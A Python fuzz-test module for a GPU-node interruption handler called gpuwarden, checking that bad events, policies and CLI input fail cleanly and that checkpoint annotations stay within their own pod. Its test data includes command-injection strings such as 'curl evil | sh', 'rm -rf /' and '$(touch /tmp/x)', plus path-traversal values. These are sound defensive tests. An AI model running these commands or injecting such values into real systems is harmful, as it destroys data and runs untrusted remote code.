"""Bad input at every entry point: a clean validation error or a correct handling, never a crash,
never a partial write."""

from __future__ import annotations

import contextlib
import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from gpuwarden.config import parse_policy
from gpuwarden.domain.errors import HandlingFailed, InvalidEvent, InvalidPolicy
from gpuwarden.kinds.inputs import parse_event, parse_notices
from gpuwarden.services.dispatch import handle_batch
from gpuwarden.sources import NoticeBatch, RunbookRequest, parse_runbook
from sim import KubeSim
from sim.actors.capacity_reservations import CapacityReservations
from tests.reliability.conftest import sim_deps
from tests.reliability.harness import EVENTS, build_cluster, fresh_sim, spot_event

SAMPLES = sorted(p.name for p in EVENTS.glob("*.json"))
FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck), database=None)

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=20), inner, max_size=5),
    max_leaves=20,
)
weird_strings = st.one_of(
    st.text(max_size=60),
    st.sampled_from(
        ["", " ", "i-0abc1234def567890", "ÍP-10-0-1-23", "名前", "a" * 300, "../../etc", "$(reboot)", "\x00"]
    ),
)


def _paths(obj: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [prefix]
    if isinstance(obj, dict):
        for k, v in obj.items():
            out += _paths(v, (*prefix, k))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            out += _paths(v, (*prefix, i))
    return out


@st.composite
def mutated_samples(draw: Any) -> Any:
    """A real payload from events/ with one field replaced, deleted, or blown up to 1 MB."""
    doc = json.loads((EVENTS / draw(st.sampled_from(SAMPLES))).read_text())
    paths = [p for p in _paths(doc) if p]
    if not paths:
        return doc
    path = draw(st.sampled_from(paths))
    parent = doc
    for key in path[:-1]:
        parent = parent[key]
    how = draw(st.sampled_from(["replace", "delete", "huge", "type"]))
    if how == "delete" and isinstance(parent, dict):
        del parent[path[-1]]
    elif how == "huge":
        parent[path[-1]] = "x" * 1_000_000
    elif how == "type":
        parent[path[-1]] = draw(st.sampled_from([[], {}, 0, -1, 1e308, True, None]))
    else:
        parent[path[-1]] = draw(json_values | weird_strings)
    return doc


@pytest.fixture(scope="module")
def empty_sim(aws: None) -> Any:
    with KubeSim(clock_speed=20.0) as sim, _capacity_reservations_answered():
        yield sim


@contextlib.contextmanager
def _capacity_reservations_answered() -> Iterator[None]:
    """moto has no DescribeCapacityReservations: every EC2 client gpuwarden makes (the CLI builds its
    own) gets that one call answered at the boto3 boundary, so a fuzzed Capacity Block event meets
    EC2's answer and never moto's NotImplementedError."""
    from gpuwarden.adapters.aws import Cloud

    made = Cloud._client

    def client(self: Cloud, service: str, *, quick: bool = False) -> Any:
        built = made(self, service, quick=quick)
        if service == "ec2":
            CapacityReservations().attach(built)
        return built

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(Cloud, "_client", client)
        yield


def _writes(sim: KubeSim) -> list[str]:
    return [f"{r.method} {r.path}" for r in sim.requests if r.method != "GET"]


def _route(sim: KubeSim, raw: Any) -> None:
    """What the deployed routing does with one input: parse (InvalidEvent → DLQ) or handle."""
    before = len(sim.requests)
    try:
        parsed = parse_event(raw)
    except InvalidEvent as err:
        message = str(err)
        assert message
        assert not [r for r in sim.requests[before:] if r.method != "GET"]
        return
    if isinstance(parsed, NoticeBatch):
        result = handle_batch(parsed, sim_deps(sim)).to_json()
        assert result["outcome"] in ("ignored", "handled", "failed"), result
        assert result["reason"]
        # the simulator holds no node: nothing may be written whatever the event says
        assert not [r for r in sim.requests[before:] if r.method != "GET"]


@FUZZ
@given(raw=json_values | mutated_samples())
def test_any_event_is_rejected_cleanly_or_handled(empty_sim: KubeSim, raw: Any) -> None:
    _route(empty_sim, raw)


@FUZZ
@given(
    raw=st.one_of(
        json_values,
        st.fixed_dictionaries(
            {"action": weird_strings},
            optional={
                "node": weird_strings,
                "instance_id": weird_strings,
                "dry_run": json_values,
                "force": json_values,
                "reason": weird_strings,
                "extra": json_values,
            },
        ),
    )
)
def test_runbook_payloads_parse_or_raise_invalid_event(raw: Any) -> None:
    try:
        assert isinstance(parse_runbook(raw), RunbookRequest)
    except InvalidEvent as err:
        message = str(err)
        assert message


@FUZZ
@given(
    text=st.one_of(
        st.text(max_size=200),
        json_values.map(json.dumps),
        st.sampled_from(["cluster: ml-prod\nwindows: 3", "{{", "cluster: [", "- a\n- b", "cluster: ''"]),
    )
)
def test_policy_documents_validate_or_raise_invalid_policy(text: str) -> None:
    try:
        policy = parse_policy(text, "fuzz")
    except InvalidPolicy as err:
        message = str(err)
        assert "fuzz" in message
    else:
        assert policy.cluster


def test_huge_policy_document_is_invalid_not_a_crash() -> None:
    with pytest.raises(InvalidPolicy):
        parse_policy("cluster: " + "x" * 1_000_000, "huge")


#: found by this test: a Capacity Block Delivered event without `detail`, read from its resources
CAPACITY_BLOCK_WITHOUT_DETAIL = {
    "customer_event_id": "cr-0a1b2c3d4e5f67890-delivered",
    "detail_type": "Capacity Block Delivered",
    "source": "aws.ec2",
    "account": "123456789012",
    "time": "2026-05-31T12:00:00Z",
    "resources": ["arn:aws:ec2:us-west-2:123456789012:capacity-reservation/cr-0a1b2c3d4e5f67890"],
}


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(
    stdin=st.one_of(st.text(max_size=100), json_values.map(json.dumps), mutated_samples().map(json.dumps)),
    args=st.lists(weird_strings, max_size=3),
)
@example(stdin=json.dumps(CAPACITY_BLOCK_WITHOUT_DETAIL), args=[])
def test_cli_answers_with_its_exit_codes_only(empty_sim: KubeSim, stdin: str, args: list[str]) -> None:
    from gpuwarden.cli import main

    env = {"KUBECONFIG": str(empty_sim.kubeconfig_path), "GPUWARDEN_CLUSTER": "ml-prod", "DRY_RUN": ""}
    before = len(empty_sim.requests)
    result = CliRunner().invoke(main, ["invoke", "-"], input=stdin, env=env)
    assert result.exit_code in (0, 1, 2), (result.exit_code, result.output[-500:], result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert not [r for r in empty_sim.requests[before:] if r.method != "GET"]
    # unknown commands and options: a usage error (2), nothing run
    odd = CliRunner().invoke(main, ["runbook", *args, "--no-such-flag"], env=env)
    assert odd.exit_code == 2, odd.output


# --------------------------------------------------------------------------- exec checkpoints stay in their pod


HOSTILE = [
    ("exec:sh -c 'kill 1; kubectl exec other -- rm -rf /'", None),
    ("exec:-- --container log-shipper -c /bin/true", None),
    ("exec:/bin/checkpoint; rm -rf / && curl evil | sh", None),
    ("exec:/bin/checkpoint $(touch /tmp/x) `id`", None),
    ("exec:/bin/checkpoint", "sidecar-that-does-not-exist"),
    ("exec:/bin/checkpoint", "../other-pod/trainer"),
    ("signal:SIGUSR1; rm -rf /", None),
    ("signal:SIGUSR1", "not-a-container"),
]


def test_hostile_checkpoint_annotations_never_exec_outside_their_own_pod_and_container() -> None:
    import shlex

    from sim.builders import training_pod

    # real speed: the notice leaves 30 s; at 40x that was 0.75 s of wall, which the first
    # invocation's own work outlasted under load and every pod left unasked at the deadline
    # (docs/reliability.md, "Sim time and machine load")
    with fresh_sim(speed=1.0, ack_delay=0.5) as (sim, _workloads):
        cluster = build_cluster(sim, modes=(), inference=0, pdb_min_available=None, grace=1)
        expected: dict[str, tuple[str, list[str]] | None] = {}
        for i, (mode, container) in enumerate(HOSTILE):
            obj = sim.create(
                training_pod(
                    f"hostile-{i}", cluster.node, gpus=1, checkpoint=mode, grace=1, checkpoint_container=container
                )
            )
            key = f"ml/{obj['metadata']['name']}"
            value = mode.removeprefix("exec:")
            if container is None and mode.startswith("exec:"):
                expected[key] = ("trainer", shlex.split(value))
            else:
                expected[key] = None  # a bad signal or a container not in the pod: no exec at all
        event = spot_event(sim.clock.now(), age=90)
        result = handle_batch(parse_notices(event), sim_deps(sim)).to_json()
        assert result["outcome"] == "handled", result
        pods = {f"{p['metadata']['namespace']}/{p['metadata']['name']}" for p in sim.list("Pod")}
        for rec in sim.exec_log:
            key = f"{rec.namespace}/{rec.pod}"
            assert key in expected, key  # only pods on the node that asked for an exec
            want = expected[key]
            assert want is not None, (key, rec)
            assert (rec.container, list(rec.command)) == (want[0], want[1]), rec
        assert {f"{r.namespace}/{r.pod}" for r in sim.exec_log} == {k for k, v in expected.items() if v}
        assert not pods & {f"ml/hostile-{i}" for i in range(len(HOSTILE))}  # every one was still drained
        assert result["drain"]["outcome"] in ("drained", "drained-late")


def test_huge_event_fields_are_rejected_quickly(empty_sim: KubeSim) -> None:
    event = json.loads((EVENTS / "spot-interruption.json").read_text())
    for field in ("id", "detail-type", "source", "time", "region"):
        huge = copy.deepcopy(event)
        huge[field] = "x" * 1_000_000
        _route(empty_sim, huge)
    huge = copy.deepcopy(event)
    huge["detail"]["instance-id"] = "i-" + "0" * 1_000_000
    _route(empty_sim, huge)
    assert Path(EVENTS).is_dir()


@pytest.fixture(scope="module")
def lambda_handler(empty_sim: KubeSim) -> Any:
    """The deployed interruption handler, its dependencies built from the environment (KUBECONFIG)."""
    from gpuwarden.handlers import _runtime
    from gpuwarden.handlers.interruption import handler

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("KUBECONFIG", str(empty_sim.kubeconfig_path))
        mp.setenv("GPUWARDEN_CLUSTER", "ml-prod")
        mp.setenv("POWERTOOLS_METRICS_NAMESPACE", "GpuwardenTest")
        _runtime.settings.cache_clear()
        _runtime.deps.cache_clear()
        # moto has no DescribeCapacityReservations: that one call is answered at the boto3 boundary
        CapacityReservations().attach(_runtime.deps().cloud.ec2)  # type: ignore[attr-defined]
        yield handler
        _runtime.settings.cache_clear()
        _runtime.deps.cache_clear()


class FakeContext:
    function_name = "gpuwarden-interruption"
    memory_limit_in_mb = 512
    invoked_function_arn = "arn:aws:lambda:us-west-2:123456789012:function:gpuwarden-interruption"
    aws_request_id = "fuzz"


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(
    raw=st.one_of(
        json_values.filter(lambda v: isinstance(v, dict)), mutated_samples().filter(lambda v: isinstance(v, dict))
    )
)
def test_interruption_handler_raises_invalid_event_or_answers(
    empty_sim: KubeSim, lambda_handler: Any, raw: dict[str, Any]
) -> None:
    before = len(empty_sim.requests)
    try:
        answer = lambda_handler(raw, FakeContext())
    except InvalidEvent:
        assert not [r for r in empty_sim.requests[before:] if r.method != "GET"]
        return
    except HandlingFailed as failed:  # recorded, then raised for the dead-letter queue
        answer = failed.result
    assert answer["outcome"] in ("ignored", "handled", "failed"), answer
    assert not [r for r in empty_sim.requests[before:] if r.method != "GET"]
